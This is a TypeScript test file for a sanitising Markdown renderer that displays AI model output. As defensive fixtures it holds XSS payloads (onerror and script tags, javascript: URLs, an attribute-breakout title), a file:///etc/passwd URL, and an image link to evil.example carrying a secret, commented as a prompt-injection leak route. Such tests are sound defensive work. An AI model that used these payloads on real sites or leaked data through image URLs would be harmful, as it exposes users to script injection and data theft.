import { describe, expect, it, vi } from 'vitest';
import {
  createMarkdownRenderer,
  markdownToHtml,
  SANITIZE_CONFIG,
  type Sanitizer,
  safeLinkUrl,
} from '../../shared/ui/markdown';

describe('markdownToHtml (the layer that needs no DOM)', () => {
  it('renders ordinary Markdown', () => {
    const html = markdownToHtml('Hello **world**\n\n- one\n- two');
    expect(html).toContain('<strong>world</strong>');
    expect(html).toContain('<li>one</li>');
  });

  it('shows raw HTML written by the model as text, never as markup', () => {
    const html = markdownToHtml(
      'Look: <img src=x onerror="alert(1)"> and <script>alert(2)</script>\n\n<div onclick="x()">block</div>',
    );
    expect(html).not.toMatch(/<img|<script|<div/i);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain('&lt;div onclick=&quot;x()&quot;&gt;');
  });

  it('opens http(s) links in a new tab without an opener', () => {
    const html = markdownToHtml('[docs](https://docs.anthropic.com/x?a=1&b=2)');
    expect(html).toBe(
      '<p><a href="https://docs.anthropic.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">docs</a></p>\n',
    );
  });

  it('turns bare URLs into the same safe links', () => {
    expect(markdownToHtml('see https://example.com/page')).toContain(
      '<a href="https://example.com/page" target="_blank" rel="noopener noreferrer">',
    );
  });

  it('drops links to javascript:, data: and relative URLs but keeps their text', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:text/html,<b>x</b>',
      '/options.html',
      'x',
    ]) {
      const html = markdownToHtml(`[click me](${href})`);
      expect(html, href).not.toContain('<a');
      expect(html, href).toContain('click me');
    }
  });

  it('escapes a link title that tries to break out of its attribute', () => {
    const html = markdownToHtml('[x](https://a.example "t\\" onmouseover=\\"alert(1)")');
    expect(html).not.toMatch(/"\s*onmouseover=/);
    expect(html).toContain('&quot;');
  });

  it('never loads images: an image becomes a link the person can choose to open', () => {
    // A prompt injection could otherwise leak data through the image URL just by being displayed.
    const html = markdownToHtml('![chart](https://evil.example/leak?secret=abc)');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/leak?secret=abc"');
    expect(html).toContain('[image: chart]');
  });

  it('escapes code', () => {
    expect(markdownToHtml('```html\n<b onclick="x">hi</b>\n```')).toContain(
      '&lt;b onclick=&quot;x&quot;&gt;hi&lt;/b&gt;',
    );
    expect(markdownToHtml('use `<br>` here')).toContain('<code>&lt;br&gt;</code>');
  });
});

describe('safeLinkUrl', () => {
  it('accepts absolute http, https and mailto URLs only', () => {
    expect(safeLinkUrl('https://a.example/x')).toBe('https://a.example/x');
    expect(safeLinkUrl('mailto:someone@example.com')).toBe('mailto:someone@example.com');
    expect(safeLinkUrl('chrome-extension://abc/options.html')).toBeUndefined();
    expect(safeLinkUrl('file:///etc/passwd')).toBeUndefined();
    expect(safeLinkUrl('not a url')).toBeUndefined();
  });
});

type Hook = (node: {
  nodeName: string;
  setAttribute(n: string, v: string): void;
  removeAttribute(n: string): void;
}) => void;

function fakePurify(isSupported = true) {
  const hooks: Array<{ name: string; hook: Hook }> = [];
  const sanitize = vi.fn((dirty: string) => `[sanitized]${dirty}`);
  const purify = {
    isSupported,
    sanitize,
    addHook: (name: string, hook: Hook) => hooks.push({ name, hook }),
  } as unknown as Sanitizer;
  return { purify, sanitize, hooks };
}

describe('createMarkdownRenderer', () => {
  it('passes the Markdown output through DOMPurify with the restrictive config', () => {
    const { purify, sanitize } = fakePurify();
    const render = createMarkdownRenderer(purify);
    expect(render('**hi**')).toBe('[sanitized]<p><strong>hi</strong></p>\n');
    expect(sanitize).toHaveBeenCalledWith('<p><strong>hi</strong></p>\n', SANITIZE_CONFIG);
    expect(SANITIZE_CONFIG.FORBID_TAGS).toEqual(expect.arrayContaining(['img', 'style', 'iframe', 'form']));
  });

  it('falls back to escaped text where DOMPurify cannot run, instead of trusting unsanitised HTML', () => {
    const { purify, sanitize } = fakePurify(false);
    const html = createMarkdownRenderer(purify)('<b>x</b> **y**');
    expect(html).toBe('<p>&lt;b&gt;x&lt;/b&gt; **y**</p>');
    expect(sanitize).not.toHaveBeenCalled();
  });

  it('installs its link hook once per DOMPurify instance, forcing new-tab links and no other targets', () => {
    const { purify, hooks } = fakePurify();
    createMarkdownRenderer(purify);
    createMarkdownRenderer(purify);
    expect(hooks).toHaveLength(1);
    expect(hooks[0]?.name).toBe('afterSanitizeAttributes');

    const attrs = new Map<string, string>([['target', '_self']]);
    const node = (nodeName: string) => ({
      nodeName,
      setAttribute: (n: string, v: string) => attrs.set(n, v),
      removeAttribute: (n: string) => attrs.delete(n),
    });
    hooks[0]?.hook(node('A'));
    expect(Object.fromEntries(attrs)).toEqual({ target: '_blank', rel: 'noopener noreferrer' });
    hooks[0]?.hook(node('FORM'));
    expect(attrs.has('target')).toBe(false);
  });
});
